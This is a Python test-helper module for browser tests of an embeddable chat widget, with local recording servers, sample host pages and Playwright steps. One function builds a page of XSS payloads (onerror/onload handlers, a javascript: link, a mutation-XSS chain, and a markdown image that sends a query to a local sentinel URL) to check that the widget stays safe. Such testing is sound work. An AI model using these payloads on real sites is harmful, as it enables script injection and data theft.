"""What the browser tests share: the host-page servers, the pages they index, and widget steps."""

from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from playwright.sync_api import expect

from tests.conftest import REPO
from tests.servers import start_serving

CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = REPO / "test-artifacts"
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-quic",
]
PWNED = "window.__pwned === undefined"

PRICING = """<html><head><title>Pricing</title></head><body><main><h1>Pricing</h1>
<h2 id="plans">Plans</h2><p>The Starter plan costs 10 euros per month and includes three assistants.
The Business plan costs 49 euros per month and includes unlimited assistants.</p></main></body></html>"""
INSTALL = """<html><head><title>Installation</title></head><body><main><h1>Installation</h1>
<h2 id="requirements">Requirements</h2><p>Install the gadget with the installer from the downloads page. It runs on Linux,
macOS and Windows, and needs two gigabytes of disk space.</p></main></body></html>"""


def hostile_page(sentinel_url: str) -> str:
    """A page whose text is a set of XSS payloads, quoted verbatim by the extractive answerer."""
    payloads = (
        "&lt;img src=x onerror=window.__pwned=1&gt; &lt;svg onload=window.__pwned=1&gt; "
        "[click me](javascript:window.__pwned=1) "
        "&lt;math&gt;&lt;mtext&gt;&lt;table&gt;&lt;mglyph&gt;&lt;style&gt;&lt;img src=x onerror=window.__pwned=1&gt; "
        f"![secret]({sentinel_url}/?q=secret)"
    )
    return f"""<html><head><title>Gizmo manual</title></head><body><main><h1>Gizmo manual</h1>
<h2>Setup</h2><p>The xyzzy gizmo plugs into any socket and needs no tools at all.</p>
<p>Xyzzy gizmo notes {payloads}</p></main></body></html>"""


class Recorder(ThreadingHTTPServer):
    """Serves ``pages`` (path → HTML) and records every request path in ``hits``."""

    def __init__(self):
        self.pages: dict[str, str] = {}
        self.hits: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(handler):
                self.hits.append(handler.path)
                body = self.pages.get(handler.path.split("?")[0], "").encode()
                handler.send_response(200 if body else 404)
                handler.send_header("Content-Type", "text/html; charset=utf-8")
                handler.send_header("Content-Length", str(len(body)))
                handler.end_headers()
                handler.wfile.write(body)

            def log_message(handler, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.port = self.server_address[1]
        start_serving(self)


def host_page(host_site, platform, assistant, path="/shop.html") -> str:
    """A host page that includes the snippet twice; returns its allowed (localhost) URL."""
    snippet = f'<script src="{platform}/widget.js" data-assistant="{assistant.public_key}" async></script>'
    host_site.pages[path] = f"""<!doctype html><html><head><title>Gadget shop</title>
<style>button {{ background: red; }} iframe {{ display: none; }}</style></head>
<body><h1>The gadget shop</h1>{snippet}{snippet}</body></html>"""
    return f"http://localhost:{host_site.port}{path}"


def chat_frame(page):
    return page.frame_locator("iframe.cs-panel")


def chat_ready(scope):
    """Wait for the chat's script to have started (``scope``: a page or a frame), on a slow machine
    the time between the page showing and its buttons working."""
    expect(scope.locator("#chat[data-ready]")).to_have_count(1, timeout=15_000)


def ask(page, question: str):
    """Type a question in the open widget, send it with Enter, and wait for the complete answer."""
    frame = chat_frame(page)
    chat_ready(frame)
    answers = frame.locator(".msg.assistant .feedback")
    count = answers.count()
    frame.locator("#question").fill(question)
    frame.locator("#question").press("Enter")
    expect(answers).to_have_count(count + 1, timeout=30_000)
    return frame.locator(".msg.assistant:not(.greeting)").last
